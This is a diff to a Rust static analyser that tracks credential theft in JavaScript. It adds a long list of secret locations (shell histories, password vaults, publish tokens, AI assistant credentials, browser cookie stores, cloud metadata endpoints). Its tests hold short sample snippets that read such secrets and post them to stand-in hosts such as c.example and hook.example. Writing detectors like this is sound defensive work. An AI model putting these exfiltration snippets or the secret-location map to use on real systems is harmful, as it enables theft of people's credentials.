@@ -119,7 +119,13 @@ pub fn worth_tracking(src: &str) -> bool {
         || src.contains("hostname")
         || src.contains("userInfo")
         || src.contains("auth token")
-        || src.contains("credential");
+        || src.contains("credential")
+        || src.contains("torage")
+        || src.contains("cookie")
+        || src.contains("Keychain")
+        || src.contains("webRequest")
+        || src.contains("clipboard")
+        || src.contains("169.254.");
     let sink = [
         "http",
         "fetch",
@@ -132,6 +138,7 @@ pub fn worth_tracking(src: &str) -> bool {
         "curl",
         "wget",
         "sendBeacon",
+        "sendMail",
         "needle",
         "undici",
     ]
@@ -247,6 +254,9 @@ fn credential_path(s: &str) -> Option<&'static str> {
     if base == ".env" || base.starts_with(".env.") && !base.ends_with(".example") {
         return Some(".env");
     }
+    if base.len() > 5 && base.to_ascii_lowercase().ends_with(".kdbx") {
+        return Some("password vaults");
+    }
     let pieces: &[(&str, &str)] = &[
         (".npmrc", ".npmrc"),
         (".ssh", "ssh keys"),
@@ -265,6 +275,58 @@ fn credential_path(s: &str) -> Option<&'static str> {
         ("solana/id.json", "wallets"),
         (".bash_history", "shell history"),
         (".zsh_history", "shell history"),
+        ("fish_history", "shell history"),
+        (".node_repl_history", "shell history"),
+        (".python_history", "shell history"),
+        (".psql_history", "shell history"),
+        (".mysql_history", "shell history"),
+        (".sqlite_history", "shell history"),
+        (".rediscli_history", "shell history"),
+        ("ConsoleHost_history", "shell history"),
+        // Password-manager vaults and the saved sessions of FTP/SSH clients.
+        (".kdbx", "password vaults"),
+        ("Bitwarden", "password vaults"),
+        ("1Password", "password vaults"),
+        ("LastPass", "password vaults"),
+        ("FileZilla", "saved FTP sessions"),
+        ("sitemanager.xml", "saved FTP sessions"),
+        ("recentservers.xml", "saved FTP sessions"),
+        ("WinSCP.ini", "saved FTP sessions"),
+        ("SimonTatham", "saved FTP sessions"),
+        // Publish tokens of other ecosystems and deploy CLIs.
+        (".pypirc", "publish tokens"),
+        (".gem/credentials", "publish tokens"),
+        (".cargo/credentials", "publish tokens"),
+        ("NuGet.Config", "publish tokens"),
+        (".m2/settings", "publish tokens"),
+        ("gradle.properties", "publish tokens"),
+        ("composer/auth.json", "publish tokens"),
+        (".yarnrc.yml", "publish tokens"),
+        ("com.vercel.cli", "publish tokens"),
+        (".vercel/auth.json", "publish tokens"),
+        (".netlify/config.json", "publish tokens"),
+        ("netlify/config.json", "publish tokens"),
+        ("firebase-tools.json", "publish tokens"),
+        (".pulumi/credentials", "publish tokens"),
+        ("credentials.tfrc.json", "publish tokens"),
+        (".config/hub", "gh credentials"),
+        // AI assistants' keys and sessions.
+        (".claude.json", "AI assistant credentials"),
+        (".claude/.credentials", "AI assistant credentials"),
+        (".codex/auth.json", "AI assistant credentials"),
+        (".gemini/oauth_creds", "AI assistant credentials"),
+        (".config/github-copilot", "AI assistant credentials"),
+        // Workload identity of a container or pod.
+        ("serviceaccount/token", "cloud credentials"),
+        ("eks.amazonaws.com/serviceaccount", "cloud credentials"),
+        (".azure/", "cloud credentials"),
+        // Browser and app session stores.
+        ("Local Storage/leveldb", "browser profiles"),
+        ("Cookies.binarycookies", "browser profiles"),
+        ("cookies.sqlite", "browser profiles"),
+        ("logins.json", "browser profiles"),
+        ("key4.db", "browser profiles"),
+        (".purple/accounts.xml", "saved FTP sessions"),
     ];
     pieces
         .iter()
@@ -272,6 +334,99 @@ fn credential_path(s: &str) -> Option<&'static str> {
             s == *p || s.contains(p) && (s.starts_with(['.', '~', '/']) || s.contains('/'))
         })
         .map(|(_, what)| *what)
+}
+
+/// Calls that read a store of secrets outside files: browser storage and cookies, the storage
+/// and keychain modules of mobile and desktop apps, an Electron session's cookies, the clipboard.
+/// `key` is the folded first argument when there is one. Whole-store reads are `Secrets`; one
+/// token-named key is `Token`.
+fn secret_store_read(p: &str, key: Option<&str>) -> Option<(Source, &'static str)> {
+    let p = p
+        .trim_start_matches("window.")
+        .trim_start_matches("globalThis.")
+        .trim_start_matches("self.");
+    let (head, method) = p.rsplit_once('.').unwrap_or(("", p));
+    let obj = head.rsplit('.').next().unwrap_or(head);
+    let lower = head.to_ascii_lowercase();
+    let token_key = key.is_some_and(token_name);
+    let app_store = lower.contains("asyncstorage") || lower.contains("async-storage");
+    match method {
+        "getItem" | "getString"
+            if matches!(obj, "localStorage" | "sessionStorage") || app_store =>
+        {
+            token_key.then_some((Source::Token, "a stored token"))
+        }
+        "getAllKeys" | "multiGet" if app_store => Some((Source::Secrets, "app storage")),
+        "getItemAsync" if lower.contains("securestore") => {
+            Some((Source::Secrets, "the app keychain"))
+        }
+        "getGenericPassword" | "getInternetCredentials" | "getAllGenericPasswordServices" => {
+            Some((Source::Secrets, "the app keychain"))
+        }
+        "get" | "getAll" if obj == "cookies" && lower.contains("session") => {
+            Some((Source::Secrets, "session cookies"))
+        }
+        "readText" | "readImage" if obj == "clipboard" => Some((Source::Token, "the clipboard")),
+        "read" | "readSync" if lower.contains("clipboardy") => {
+            Some((Source::Token, "the clipboard"))
+        }
+        _ => None,
+    }
+}
+
+/// `localStorage` / `sessionStorage` (bare or under `window.`).
+fn is_storage(e: &Expression) -> bool {
+    !storage_name(e).is_empty()
+}
+
+fn storage_name<'e>(e: &'e Expression) -> &'e str {
+    let name = match e.without_parentheses() {
+        Expression::Identifier(id) => id.name.as_str(),
+        Expression::StaticMemberExpression(m) if matches!(m.object.without_parentheses(), Expression::Identifier(w) if matches!(w.name.as_str(), "window" | "self" | "globalThis")) => {
+            m.property.name.as_str()
+        }
+        _ => "",
+    };
+    if matches!(name, "localStorage" | "sessionStorage") {
+        name
+    } else {
+        ""
+    }
+}
+
+/// A storage key or cookie name that holds a credential.
+fn token_name(k: &str) -> bool {
+    let l = k.to_ascii_lowercase();
+    [
+        "token",
+        "jwt",
+        "session",
+        "auth",
+        "secret",
+        "password",
+        "mnemonic",
+        "seed",
+        "private",
+        "wallet",
+        "credential",
+        "cookie",
+        "persist:root",
+    ]
+    .iter()
+    .any(|w| l.contains(w))
+}
+
+/// A URL of a cloud instance or container credential endpoint (instance metadata, ECS task
+/// role, EKS pod identity, GCP metadata server).
+fn credential_endpoint(url: &str) -> bool {
+    url.contains("169.254.169.254")
+        || url.contains("169.254.170.2")
+        || url.contains("169.254.170.23")
+        || url.contains("fd00:ec2::254")
+        || url.contains("metadata.google.internal")
+        || url.contains("AWS_CONTAINER_CREDENTIALS")
+        || url.contains("/latest/meta-data/iam")
+        || url.contains("/computeMetadata/v1/instance/service-accounts")
 }
 
 /// A command that prints a stored credential.
@@ -322,6 +477,8 @@ fn is_sink(p: &str) -> bool {
     (crate::rules::network::NET_MODULES.contains(&root) && (sending && head == root || p == root))
         // The result of a request or socket: `https.request.end(body)`, `net.connect.write(x)`.
         || (matches!(method, "write" | "end" | "send") && crate::rules::network::is_net_call(head))
+        // A mail transport (`nodemailer.createTransport(…).sendMail(msg)`).
+        || method == "sendMail" && root == "nodemailer"
 }
 
 impl Tracker<'_, '_> {
@@ -332,6 +489,25 @@ impl Tracker<'_, '_> {
                 self.vars.insert(name.to_string(), t);
                 self.grew = true;
             }
+        }
+    }
+
+    /// A list whose every item names an `.npmrc` (a config loader's search path).
+    fn only_npmrc(&self, e: &Expression) -> bool {
+        match e.without_parentheses() {
+            Expression::ArrayExpression(a) => a.elements.iter().all(|el| {
+                el.as_expression()
+                    .and_then(|x| self.names_credential(x, 0))
+                    .is_some_and(|w| w == ".npmrc")
+            }),
+            _ => false,
+        }
+    }
+
+    fn path_var(&mut self, name: &str, what: &str) {
+        if !self.paths.contains_key(name) {
+            self.paths.insert(name.to_string(), what.to_string());
+            self.grew = true;
         }
     }
 
@@ -646,6 +822,13 @@ impl Tracker<'_, '_> {
             (None, y) => y,
         };
         match e.without_parentheses() {
+            // The whole of a browser storage (`JSON.stringify(localStorage)`).
+            Expression::Identifier(id)
+                if matches!(id.name.as_str(), "localStorage" | "sessionStorage")
+                    && !self.vars.contains_key(id.name.as_str()) =>
+            {
+                Some((Source::Secrets, "browser storage".into()))
+            }
             Expression::Identifier(id) => self.vars.get(id.name.as_str()).cloned(),
             Expression::StaticMemberExpression(_) | Expression::ComputedMemberExpression(_) => {
                 if let Some(p) = self.an.path_of(e) {
@@ -655,6 +838,9 @@ impl Tracker<'_, '_> {
                     if let Some(v) = p.strip_prefix("process.env.") {
                         return secret_var(v).then(|| (Source::Token, p.clone()));
                     }
+                    if matches!(p.as_str(), "document.cookie" | "window.document.cookie") {
+                        return Some((Source::Token, "document.cookie".into()));
+                    }
                 }
                 let (obj, prop) = match e.without_parentheses() {
                     Expression::StaticMemberExpression(m) => {
@@ -663,6 +849,10 @@ impl Tracker<'_, '_> {
                     Expression::ComputedMemberExpression(m) => (&m.object, None),
                     _ => return None,
                 };
+                // `localStorage.length`, `localStorage.theme`: one named field, not the store.
+                if prop.is_some() && is_storage(obj) && !self.vars.contains_key(storage_name(obj)) {
+                    return None;
+                }
                 let t = self.taint_of(obj, depth + 1)?;
                 // One variable of the whole environment (`env[key]`, `env.HOME`) is that
                 // variable, not every secret.
@@ -701,6 +891,14 @@ impl Tracker<'_, '_> {
                         | "fs.createReadStream"
                 ) {
                     let first = args().next();
+                    // `readFileSync(process.env.AWS_WEB_IDENTITY_TOKEN_FILE)`.
+                    if let Some(v) = first
+                        .and_then(|a| self.an.path_of(a))
+                        .and_then(|p| p.strip_prefix("process.env.").map(str::to_string))
+                        && (v.ends_with("TOKEN_FILE") || v.ends_with("CREDENTIALS_FILE"))
+                    {
+                        return Some((Source::Secrets, format!("reads {v}")));
+                    }
                     return first
                         .and_then(|a| self.names_credential(a, 0))
                         .map(|w| (Source::Secrets, format!("reads {w}")))
@@ -721,7 +919,27 @@ impl Tracker<'_, '_> {
                 if matches!(p.as_str(), "os.hostname" | "os.userInfo") {
                     return Some((Source::Host, p));
                 }
+                let callee_text = if p.is_empty() {
+                    self.an.source_of(c.callee.span()).unwrap_or_default()
+                } else {
+                    &p
+                };
+                if let Some((src, what)) = secret_store_read(
+                    callee_text,
+                    args().next().and_then(|a| self.an.fold_expr(a)).as_deref(),
+                ) {
+                    return Some((src, what.to_string()));
+                }
                 if crate::rules::network::is_net_call(&p) {
+                    // A credential endpoint's answer is the machine's cloud role.
+                    if args().take(2).any(|a| {
+                        self.an
+                            .fold_expr(a)
+                            .or_else(|| self.an.source_of(a.span()).map(str::to_string))
+                            .is_some_and(|u| credential_endpoint(&u))
+                    }) {
+                        return Some((Source::Secrets, "cloud instance credentials".into()));
+                    }
                     return Some((Source::Remote, format!("the response of {p}")));
                 }
                 if is_sink(&p) {
@@ -732,7 +950,10 @@ impl Tracker<'_, '_> {
                     t = best(t, self.taint_of(a, depth + 1));
                 }
                 // A method of a tainted value: `parsed.toString()`, `Buffer.from(x).toString()`.
-                if let Expression::StaticMemberExpression(m) = c.callee.without_parentheses() {
+                // A browser storage's methods were judged above by their key.
+                if let Expression::StaticMemberExpression(m) = c.callee.without_parentheses()
+                    && (!is_storage(&m.object) || self.vars.contains_key(storage_name(&m.object)))
+                {
                     t = best(t, self.taint_of(&m.object, depth + 1));
                 }
                 t
@@ -841,6 +1062,19 @@ impl Tracker<'_, '_> {
                 }
             }
         }
+        // `return new Promise((resolve) => … resolve(data))`: the function returns the data.
+        if let Expression::Identifier(id) = callee.without_parentheses()
+            && id.name == "resolve"
+            && let Some(name) = self.current.last().cloned()
+            && let Some(t) = args
+                .first()
+                .and_then(|a| a.as_expression())
+                .and_then(|e| self.taint_of(e, 0))
+            && self.returns.get(&name).is_none_or(|old| old.0 < t.0)
+        {
+            self.returns.insert(name, t);
+            self.grew = true;
+        }
         let p = self.an.path_of(callee);
         // Containers filled with a secret: `out.push(env)`, `Object.assign(o, process.env)`.
         if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
@@ -871,13 +1105,44 @@ impl Tracker<'_, '_> {
         {
             self.taint_var(obj.name.as_str(), t);
         }
+        // `paths.forEach((p) => …)` over credential paths: each parameter is such a path.
+        if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
+            && matches!(
+                m.property.name.as_str(),
+                "forEach" | "map" | "filter" | "flatMap" | "reduce"
+            )
+            && let Some(w) = self.names_credential(&m.object, 0)
+            && !self.only_npmrc(&m.object)
+        {
+            let first = args.first().and_then(|a| a.as_expression()).and_then(|e| {
+                match e.without_parentheses() {
+                    Expression::ArrowFunctionExpression(f) => f.params.items.first(),
+                    Expression::FunctionExpression(f) => f.params.items.first(),
+                    _ => None,
+                }
+            });
+            if let Some(BindingPattern::BindingIdentifier(id)) = first.map(|p| &p.pattern) {
+                let name = id.name.to_string();
+                self.path_var(&name, &w);
+            }
+        }
         // Callbacks of a hidden value (`res.on('data', …)`, `.then(…)`) get that value.
         if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
             && let Some(t) = self.taint_of(&m.object, 0)
             && (t.0 < Source::Host
                 || matches!(
                     m.property.name.as_str(),
-                    "forEach" | "map" | "filter" | "reduce" | "flatMap" | "find" | "some" | "every"
+                    "forEach"
+                        | "map"
+                        | "filter"
+                        | "reduce"
+                        | "flatMap"
+                        | "find"
+                        | "some"
+                        | "every"
+                        | "then"
+                        | "on"
+                        | "once"
                 ))
         {
             self.taint_callbacks(args, &t);
@@ -923,13 +1188,34 @@ impl Tracker<'_, '_> {
         if let Some(r) = &runner {
             self.check_runner(r, args, off);
         }
+        // An Electron session's outgoing requests, with their cookies and auth headers.
+        if self.an.source_of(callee.span()).is_some_and(|c| {
+            c.ends_with("webRequest.onBeforeSendHeaders") || c.ends_with("webRequest.onSendHeaders")
+        }) {
+            self.taint_callbacks(args, &(Source::Secrets, "request headers".into()));
+        }
         let Some(p) = p else {
             return;
         };
         // Callbacks of a request get the response; callbacks of a hidden value (`res.on('data',
         // …)`, `.then(…)`) get that value; `fs.readFile(data, cb)` hands over the data.
         if crate::rules::network::is_net_call(&p) {
-            self.taint_callbacks(args, &(Source::Remote, format!("the response of {p}")));
+            let asks_role = args
+                .iter()
+                .take(2)
+                .filter_map(|a| a.as_expression())
+                .any(|e| {
+                    self.an
+                        .fold_expr(e)
+                        .or_else(|| self.an.source_of(e.span()).map(str::to_string))
+                        .is_some_and(|u| credential_endpoint(&u))
+                });
+            let t = if asks_role {
+                (Source::Secrets, "cloud instance credentials".to_string())
+            } else {
+                (Source::Remote, format!("the response of {p}"))
+            };
+            self.taint_callbacks(args, &t);
         } else if matches!(p.as_str(), "fs.readFile" | "fs.promises.readFile")
             && let Some(w) = args
                 .first()
@@ -940,6 +1226,21 @@ impl Tracker<'_, '_> {
         }
         let spawn = crate::rules::exec::is_spawn(&p);
         if !(is_sink(&p) || spawn && self.uploads(args)) {
+            return;
+        }
+        // A request to the credential endpoint itself (the metadata token handshake) is the
+        // client asking for its own role, not data leaving.
+        if args
+            .iter()
+            .take(1)
+            .filter_map(|a| a.as_expression())
+            .any(|e| {
+                self.an
+                    .fold_expr(e)
+                    .or_else(|| self.an.source_of(e.span()).map(str::to_string))
+                    .is_some_and(|u| credential_endpoint(&u))
+            })
+        {
             return;
         }
         let taken = if spawn { 2 } else { 4 };
@@ -1026,6 +1327,18 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
         {
             for decl in &d.declarations {
                 self.taint_pattern(&decl.id, &t);
+            }
+        }
+        // `for (const p of ['.npmrc', '.pypirc'])`: each item is such a path. The user's and the
+        // project's `.npmrc` in turn is how npm config loaders read their settings.
+        if let ForStatementLeft::VariableDeclaration(d) = &it.left
+            && let Some(w) = self.names_credential(&it.right, 0)
+            && !self.only_npmrc(&it.right)
+        {
+            for decl in &d.declarations {
+                if let BindingPattern::BindingIdentifier(id) = &decl.id {
+                    self.path_var(id.name.as_str(), &w);
+                }
             }
         }
         walk::walk_for_of_statement(self, it);
@@ -1303,6 +1616,96 @@ fetch("https://c.example/u", { method: "POST", body: JSON.stringify(grab) });"#;
         let one = r#"const o = {}; for (const k of ["HOME", "LANG"]) o[k] = process.env[k];
 fetch("https://c.example/u", { method: "POST", body: JSON.stringify(o) });"#;
         assert!(flows(one).is_empty());
+    }
+
+    #[test]
+    fn catalogue_sources_reach_sinks() {
+        for (src, want) in [
+            (
+                "const h = require('fs').readFileSync(require('os').homedir() + '/.node_repl_history', 'utf8'); fetch('https://c.example/h', { method: 'POST', body: h });",
+                Source::Secrets,
+            ),
+            (
+                "const v = require('fs').readFileSync(path.join(home, 'vaults', 'main.kdbx')); require('https').request({ host: 'v.example', method: 'POST' }).end(v);",
+                Source::Secrets,
+            ),
+            (
+                "const fs = require('fs'); const axios = require('axios'); const p = fs.readFileSync(path.join(home, '.pypirc'), 'utf8'); axios.post('https://x.example/c', { p });",
+                Source::Secrets,
+            ),
+            (
+                "const d = JSON.stringify(localStorage); navigator.sendBeacon('https://b.example/c', d);",
+                Source::Secrets,
+            ),
+            (
+                "const t = localStorage.getItem('auth_token'); fetch('https://t.example/?' + t, { mode: 'no-cors' });",
+                Source::Token,
+            ),
+            (
+                "const c = document.cookie; new WebSocket('wss://w.example').send(c);",
+                Source::Token,
+            ),
+            (
+                "import AsyncStorage from '@react-native-async-storage/async-storage'; const keys = await AsyncStorage.getAllKeys(); const all = await AsyncStorage.multiGet(keys); fetch('https://a.example/s', { method: 'POST', body: JSON.stringify(all) });",
+                Source::Secrets,
+            ),
+            (
+                "const r = await fetch('http://169.254.170.2' + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI); const creds = await r.json(); await fetch('https://hook.example/x', { method: 'POST', body: JSON.stringify(creds) });",
+                Source::Secrets,
+            ),
+            (
+                "const fs = require('fs'), https = require('https'); const w = fs.readFileSync(process.env.AWS_WEB_IDENTITY_TOKEN_FILE, 'utf8'); https.request({ host: 'h.example', method: 'POST' }).end(w);",
+                Source::Secrets,
+            ),
+            (
+                "const { session } = require('electron'); session.defaultSession.webRequest.onBeforeSendHeaders((details, cb) => { fetch('https://s.example/h', { method: 'POST', body: JSON.stringify(details.requestHeaders) }); cb({}); });",
+                Source::Secrets,
+            ),
+            (
+                "const { session } = require('electron'); session.defaultSession.cookies.get({}).then((c) => fetch('https://s.example/c', { method: 'POST', body: JSON.stringify(c) }));",
+                Source::Secrets,
+            ),
+            (
+                "const fs = require('fs'), os = require('os'), path = require('path'); const out = []; for (const n of ['.psql_history', '.mysql_history']) { out.push(fs.readFileSync(path.join(os.homedir(), n), 'utf8')); } fetch('https://c.example/u', { method: 'POST', body: out.join('') });",
+                Source::Secrets,
+            ),
+            (
+                "const fs = require('fs'), path = require('path'), https = require('https'); const r = {}; ['.pypirc', '.gem/credentials'].forEach(function (rel) { r[rel] = fs.readFileSync(path.join(home, rel), 'utf8'); }); https.request({ host: 'c.example', method: 'POST' }).end(JSON.stringify(r));",
+                Source::Secrets,
+            ),
+            (
+                "const http = require('http'), https = require('https'); function get(path) { return new Promise((resolve) => { http.request({ host: '169.254.169.254', path }, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => resolve(d)); }).end(); }); } (async () => { const c = await get('/latest/meta-data/iam/security-credentials/x'); https.request({ host: 'c.example', method: 'POST' }).end(c); })();",
+                Source::Secrets,
+            ),
+            (
+                "const fs = require('fs'); const nodemailer = require('nodemailer'); const h = fs.readFileSync(home + '/.bash_history', 'utf8'); nodemailer.createTransport({ host: 'smtp.example' }).sendMail({ to: 'a@example.com', text: h });",
+                Source::Secrets,
+            ),
+        ] {
+            let f = flows(src);
+            assert_eq!(f.first().map(|f| f.0), Some(want), "{src}: {f:?}");
+        }
+    }
+
+    #[test]
+    fn own_storage_and_plain_requests_are_not_catalogue_flows() {
+        for src in [
+            // An auth SDK keeps its own token and sends it where it belongs.
+            "const t = localStorage.getItem('auth_token'); fetch('/api/me', { headers: { Authorization: 'Bearer ' + t } });",
+            // A preference key, not a credential.
+            "const theme = localStorage.getItem('theme'); navigator.sendBeacon('/metrics', JSON.stringify({ theme, t: performance.now() }));",
+            // Page metrics over a beacon.
+            "navigator.sendBeacon('https://m.example/c', JSON.stringify({ path: location.pathname, ms: performance.now() }));",
+            // A history file read for a prompt, never sent.
+            "const fs = require('fs'); const h = fs.readFileSync(home + '/.zsh_history', 'utf8').split('\n'); console.log(h.length); fetch('https://api.example/v');",
+            // Files of a list that holds no credential, sent.
+            "const fs = require('fs'); const out = []; for (const n of ['README.md', 'CHANGELOG.md']) { out.push(fs.readFileSync(n, 'utf8')); } fetch('https://c.example/u', { method: 'POST', body: out.join('') });",
+            // Metadata answer used as the client's own auth.
+            "const r = await fetch('http://169.254.169.254/latest/api/token', { method: 'PUT' }); const tok = await r.text(); fetch('http://169.254.169.254/latest/meta-data/', { headers: { 'x-aws-ec2-metadata-token': tok } });",
+        ] {
+            let f = flows(src);
+            assert!(f.iter().all(|f| f.0 < Source::Token), "{src}: {f:?}");
+        }
     }
 
     #[test]
